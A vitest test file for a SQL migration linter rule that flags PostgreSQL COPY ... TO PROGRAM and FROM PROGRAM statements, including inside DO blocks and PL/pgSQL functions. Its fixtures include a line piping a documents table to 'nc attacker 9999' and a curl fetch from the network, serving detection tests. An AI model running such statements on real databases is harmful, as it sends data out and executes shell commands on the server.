import { describe, expect, it } from 'vitest';
import { header, runRule } from './__fixtures__/run-rule.js';

const RULE = 'copy-program';

const migration = (sql: string) => `${header()}\n${sql}`;
const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;

describe('copy-program', () => {
  it('reports COPY ... TO PROGRAM and FROM PROGRAM at the statement, as errors', async () => {
    const text = migration(`COPY (SELECT 1) TO PROGRAM 'touch /tmp/x';
COPY public.documents (id, title) FROM PROGRAM 'curl -s https://example.com/docs.csv' WITH (FORMAT csv);
`);
    const findings = await runRule(RULE, text);
    expect(findings.map((finding) => [finding.line, finding.column, finding.severity, finding.message])).toEqual([
      [lineOf(text, 'COPY (SELECT 1)'), 1, 'error', 'COPY ... TO PROGRAM runs a shell command on the database server as the operating-system user that owns it'],
      [lineOf(text, 'COPY public.documents'), 1, 'error', 'COPY ... FROM PROGRAM runs a shell command on the database server as the operating-system user that owns it'],
    ]);
    expect(findings[0].hint).toContain('\\copy');
  });

  it('finds it inside DO blocks and PL/pgSQL function bodies (EXECUTE of a constant string too)', async () => {
    const text = migration(`DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_class WHERE relname = 'documents_export') THEN
    COPY (SELECT id FROM public.documents) TO PROGRAM 'gzip > /tmp/documents.gz';
  END IF;
END $$;

CREATE OR REPLACE FUNCTION public.export_documents() RETURNS void LANGUAGE plpgsql SET search_path = '' AS $fn$
BEGIN
  EXECUTE 'COPY public.documents TO PROGRAM ''nc attacker 9999''';
END;
$fn$;
`);
    const findings = await runRule(RULE, text);
    expect(findings.map((finding) => [finding.line, finding.message])).toEqual([
      [lineOf(text, 'COPY (SELECT id'), `COPY ... TO PROGRAM runs a shell command on the database server as the operating-system user that owns it (in the DO block on line ${lineOf(text, 'DO $$')})`],
      [
        lineOf(text, "EXECUTE 'COPY"),
        `COPY ... TO PROGRAM runs a shell command on the database server as the operating-system user that owns it (in the body of public.export_documents on line ${lineOf(text, 'CREATE OR REPLACE FUNCTION')}, run each time it is called)`,
      ],
    ]);
  });

  it('near misses stay clean: COPY to STDOUT, from STDIN, to a file (another rule), psql \\copy, the word PROGRAM in a string', async () => {
    const text = migration(`COPY public.documents TO STDOUT WITH (FORMAT csv);
COPY public.documents (id, title) FROM STDIN;
COPY public.documents TO '/tmp/documents.csv';
COMMENT ON TABLE public.documents IS 'COPY ... TO PROGRAM is forbidden here';
SELECT 'TO PROGRAM ''ls''' AS note;
`);
    expect(await runRule(RULE, text)).toEqual([]);
  });

  it('can be suppressed with a reason', async () => {
    const text = migration(`-- pgwarden-ignore copy-program -- one-off export approved in SEC-142, runs on the isolated reporting replica only
COPY (SELECT id FROM public.documents) TO PROGRAM 'gzip > /exports/documents.gz';
`);
    expect(await runRule([RULE, 'unused-ignore'], text)).toEqual([]);
  });
});
